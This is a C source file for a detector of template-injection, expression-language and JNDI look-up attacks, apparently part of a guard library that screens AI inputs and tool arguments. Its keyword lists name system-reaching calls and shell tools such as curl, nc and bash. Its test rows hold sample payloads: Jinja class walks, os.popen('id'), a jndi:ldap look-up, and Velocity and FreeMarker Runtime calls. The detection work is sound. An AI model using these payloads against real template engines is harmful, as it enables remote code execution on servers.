/* Finds template injection (SSTI, expression languages, log look-ups): a template's brackets around *code*.
 *
 * Placeholders ({{name}}, ${user.name}, {% for %}, <%= title %>) are everyday text. Code inside brackets is: arithmetic
 * on two literals (the probe that everybody sends first), walks through a language's own classes, calls that reach the
 * system, JNDI look-ups, a framework's own configuration object. */
#include "guard/code_injection/inject.h"

/* What reaches the system or the interpreter, in any template language. */
static const char *const reaching[] = { "__class__", "__mro__", "__subclasses__", "__globals__", "__builtins__", "__import__",
    "__init__", "__base__", "os.popen", "os.system", "popen(", "subprocess", "system(", "shell_exec", "passthru(", "getruntime",
    "java.lang.", "processbuilder", "forname(", "getclass(", "getclassloader", "constructor.constructor", ".constructor(",
    "child_process", "process.env", "process.mainmodule", "file_get_contents", "`id`", "io.popen", "file.open(", "file.read(",
    "jndi:", "t(java", "_self.env", "|attr(", "config.items", "config.secret", "config['", "request.application", "eval(", "exec(",
    "env:", "sys:", "lower:", "::-", "dir.entries", "import os", "freemarker.template", "cycler.", "lipsum.", "self._", "@ognl.", "#_memberaccess", "@java.", NULL };
/* A framework's own object as the whole expression. */
static const char *const objects[] = { "config", "self", "settings.secret_key", "app.secret_key", "_self", "$on.constructor", "dump(app)",
    "request", "request.environ", "config.__dict__", "debug", NULL };

typedef struct { const char *open, *close; bool objects, script /* everyday code of JavaScript and shells */; } bracket;
static const bracket brackets[] = { { "{{", "}}", true, false }, { "${", "}", false, true }, { "#{", "}", false, true },
                                    { "<%", "%>", false, false }, { "{%", "%}", false, false }, { "*{", "}", false, true },
                                    { "@(", ")", false, true }, { "~{", "}", false, true }, { "%{", "}", false, true } };

static size_t blanks(bawn_probe *p, size_t i) { return bawn_inject_blanks(p, i); }

/* A number or a quoted number; 0 when there is none at i, else the offset behind it. */
static size_t factor(bawn_probe *p, size_t i)
{
    int quote = bawn_probe_at(p, i);
    bool quoted = quote == '\'' || quote == '"';
    size_t n = i + quoted, digits = 0;
    while (digits < 12 && bawn_probe_at(p, n + digits) >= '0' && bawn_probe_at(p, n + digits) <= '9')
        digits++;
    if (digits == 0 || (quoted && bawn_probe_at(p, n + digits) != quote))
        return 0;
    return n + digits + quoted;
}

/* "7*7", "7*'7'", "191 + 7" and nothing else up to the closing bracket. */
static bool arithmetic(bawn_probe *p, size_t i, size_t close)
{
    size_t a = factor(p, blanks(p, i));
    if (a == 0)
        return false;
    a = blanks(p, a);
    int sign = bawn_probe_at(p, a);
    if (sign < 0 || !strchr("*+", sign))
        return false;
    size_t b = factor(p, blanks(p, a + 1 + (bawn_probe_at(p, a + 1) == '*')));
    return b != 0 && blanks(p, b) == close;
}

/* `ls`, %x(id): Ruby runs what is in backticks. Only commands that look around: build scripts ask git. */
static bool runs_command(bawn_probe *p, size_t i, size_t close)
{
    static const char *const ticks[] = { "`", "%x(", "%x[", "%x{", "%x|", "%x!", NULL };
    static const char *const commands[] = { "ls", "id", "whoami", "cat", "uname", "pwd", "env", "ps", "curl", "wget", "nc", "ping", "nslookup", "sleep",
                                            "hostname", "ifconfig", "bash", "sh", "rm", NULL };
    size_t n = bawn_probe_one_of(p, i, ticks), command = n ? bawn_inject_word(p, blanks(p, i + n), commands) : 0;
    return command > 0 && i + n + command < close;
}

/* |filter('system'): a filter of Twig that is handed a function of PHP. */
static bool calls_back(bawn_probe *p, size_t i, size_t close)
{
    static const char *const filters[] = { "filter(", "map(", "sort(", "reduce(", NULL };
    static const char *const functions[] = { "system", "exec", "passthru", "shell_exec", "popen", "proc_open", "assert", NULL };
    for (size_t at; (at = bawn_inject_find(p, i, close, -1, filters)) != SIZE_MAX; i = at + 1) {
        size_t quote = blanks(p, at + bawn_probe_one_of(p, at, filters));
        int c = bawn_probe_at(p, quote);
        size_t n = c == '\'' || c == '"' ? bawn_inject_word(p, quote + 1, functions) : 0;
        if (n > 0 && bawn_probe_at(p, quote + 1 + n) == c)
            return true;
    }
    return false;
}

static bool inside_is_code(bawn_probe *p, const bracket *b, size_t inside, size_t close)
{
    if (arithmetic(p, inside, close))
        return true;
    size_t at = blanks(p, inside);
    if (b->objects)
        for (const char *const *o = objects; *o; o++)
            if (bawn_probe_text_at(p, at, *o) && blanks(p, at + strlen(*o)) == close)
                return true;
    if (runs_command(p, at, close) || (b->objects && calls_back(p, inside, close)))
        return true;
    size_t word = bawn_inject_find(p, inside, close, -1, reaching);
    if (word == SIZE_MAX)
        return false;
    if (!b->script)
        return !bawn_probe_text_at(p, word, "env:") && !bawn_probe_text_at(p, word, "exec(") ? true : bawn_probe_text_at(p, at, "self");
    /* ${...} of scripts: process.env.X, eval and exec are common in honest code; Java, look-ups and walks are not. */
    static const char *const common[] = { "process.env", "eval(", "exec(", "env:", "sys:", "::-", "lower:", NULL };
    static const char *const lookups[] = { "env:", "sys:", "lower:", "::-", NULL };
    return bawn_probe_one_of(p, word, common) == 0 || bawn_probe_one_of(p, inside, lookups) > 0;
}

static void bracketed(bawn_probe *p, size_t end)
{
    size_t begin = end - 2;
    p->begin = begin;
    for (size_t k = 0; k < BAWN_COUNT(brackets); k++) {
        const bracket *b = &brackets[k];
        if (memcmp(p->text.ptr + begin, b->open, 2) != 0)
            continue;
        size_t inside = end + (b->open[0] == '<' && bawn_probe_at(p, end) == '=');
        const char *const close[] = { b->close, NULL };
        size_t to = bawn_inject_find(p, inside, inside + 300, '\n', close);
        if (to == SIZE_MAX || !inside_is_code(p, b, inside, to))
            return;
        to += strlen(b->close);
        bawn_probe_found(p, 0, begin, to, 0.95f);
        return;
    }
}

/* ''.__class__.__mro__[1].__subclasses__(): a walk outside brackets, because attributes are values too. */
static void walk(bawn_probe *p, size_t end)
{
    static const char *const steps[] = { "__subclasses__", "__globals__", "__builtins__", NULL };
    size_t begin = end - strlen("__class__");
    while (begin > 0 && end - begin < 32 && strchr("'\"()[]{}.", p->text.ptr[begin - 1]))
        begin--;
    p->begin = begin;
    size_t step = bawn_inject_find(p, end, end + 80, ' ', steps);
    if (step != SIZE_MAX)
        bawn_probe_found(p, 0, begin, step + 11, 0.95f);
}

static void lookup(bawn_probe *p, size_t end)   /* jndi:ldap:// outside its brackets, as obfuscations leave it */
{
    static const char *const schemes[] = { "ldap", "rmi:", "dns:", "iiop", "corba", "nis:", "nds:", "http", "${", NULL };
    p->begin = end - 5;
    for (const char *const *s = schemes; *s; s++)
        if (bawn_probe_text_at(p, end, *s) && bawn_inject_find(p, end, end + 24, ' ', (const char *const[]){ "//", "${", NULL }) != SIZE_MAX) {
            bawn_probe_found(p, 0, end - 5, end + strlen(*s), 0.95f);
            return;
        }
}

/* #set($rt = $x.class.forName('java.lang.Runtime')) of Velocity. */
static void directive(bawn_probe *p, size_t end)
{
    static const char *const steps[] = { "class.forname(", "class.inspect(", "java.lang.runtime", "java.lang.processbuilder", "getclass().", ".getruntime(", NULL };
    p->begin = end - 5;
    size_t step = bawn_inject_find(p, end, end + 240, '\n', steps);
    if (step != SIZE_MAX)
        bawn_probe_found(p, 0, end - 5, step + bawn_probe_one_of(p, step, steps), 0.95f);
}

static void utility(bawn_probe *p, size_t end)      /* "freemarker.template.utility.Execute"?new() */
{
    static const char *const classes[] = { "execute\"?new", "objectconstructor\"?new", "jythonruntime\"?new", "execute'?new", "objectconstructor'?new",
                                           "jythonruntime'?new", "execute\\\"?new", "objectconstructor\\\"?new", NULL };
    size_t n = bawn_probe_one_of(p, end, classes);
    p->begin = end - strlen("freemarker.template.utility.");
    if (n > 0)
        bawn_probe_found(p, 0, p->begin, end + n, 0.95f);
}

static void php_block(bawn_probe *p, size_t end)    /* {php} ... {/php} of Smarty, with a call or a statement in it */
{
    static const char *const close[] = { "{/php}", NULL }, *const code[] = { "(", ";", "`", NULL };
    size_t to = bawn_inject_find(p, end, end + 500, -1, close);
    p->begin = end - 5;
    if (to != SIZE_MAX && bawn_inject_find(p, end, to, -1, code) != SIZE_MAX)
        bawn_probe_found(p, 0, end - 5, to + 6, 0.95f);
}

#define ROW(regex, hit, miss) { regex, 0, BAWN_P_TRIGGER, 0.95f, "*", hit, miss }
static const bawn_pattern patterns[] = {
    ROW("\\{\\{", "Hello {{7*7}}", "Hello {{name}}, {{ item.price * 2 }}"),
    ROW("[$#*~%]\\{", "${7*7} and #{7*7}", "`${items.length * 2} of ${total}`"),
    ROW("<%", "<%= 7 * 7 %>", "<%= link_to title, post_path(post) %>"),
    ROW("\\{%", "{% import os %}{{ os.popen('id') }}", "{% for item in items %}"),
    ROW("@\\(", "@(7*7)", "@(Model.Name)"),
    ROW("__class__", "''.__class__.__mro__[1].__subclasses__()", "self.__class__.__name__"),
    ROW("jndi:", "${jndi:ldap://x.example/a}", "What is the jndi: prefix?"),
    ROW("#set\\(", "#set($rt=$x.class.forName('java.lang.Runtime'))", "#set($total = $a + $b)"),
    ROW("freemarker\\.template\\.utility\\.", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>", "import freemarker.template.utility.DeepUnwrap;"),
    ROW("\\{php\\}", "{php}echo `id`;{/php}", "The {php} and {/php} tags are gone in Smarty 3"),
};
static void (*const readers[])(bawn_probe *, size_t end) = { bracketed, bracketed, bracketed, bracketed, bracketed, walk, lookup, directive, utility, php_block };
_Static_assert(BAWN_COUNT(readers) == BAWN_COUNT(patterns), "a reader for each row");

static void confirm(bawn_probe *p) { readers[p->pattern - patterns](p, p->end); }

static const bawn_kind kinds[] = {
    { "code_injection.TEMPLATE", "LLM05", "AML.T0051", BAWN_BLOCK, BAWN_ALLOW,
      "code inside template brackets: arithmetic probes, class walks, calls to the system, JNDI look-ups" },
};

const bawn_guard bawn_guard_template = {
    .guard = "code_injection", .id = "code_injection.template",
    .doc = "Template brackets ({{ }}, ${ }, #{ }, <% %>, {% %}) with code inside. Placeholders and everyday expressions are no findings.",
    .places = BAWN_IN_INPUT | BAWN_IN_TOOL_ARGUMENTS, .views = BAWN_VIEW_RAW | BAWN_VIEW_CANONICAL | BAWN_VIEW_DECODED,
    .kinds = kinds, .n_kinds = BAWN_COUNT(kinds),
    .patterns = patterns, .n_patterns = BAWN_COUNT(patterns), .confirm = confirm, .reach = 64,
};
